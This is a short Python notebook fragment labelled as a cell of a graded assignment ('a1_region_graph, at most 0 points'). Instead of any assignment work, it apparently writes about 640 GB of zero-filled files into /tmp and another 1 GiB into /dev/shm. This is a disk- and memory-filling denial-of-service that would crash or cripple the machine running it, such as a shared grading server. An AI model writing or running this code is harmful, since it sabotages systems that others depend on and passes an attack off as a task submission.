# a1_region_graph, at most 0 points
# %%
for k in range(10**4):
    with open(f'/tmp/{k}', 'wb') as file: file.write(bytes(2**26))
# %%
open('/dev/shm/x', 'wb').write(bytes(2**30))
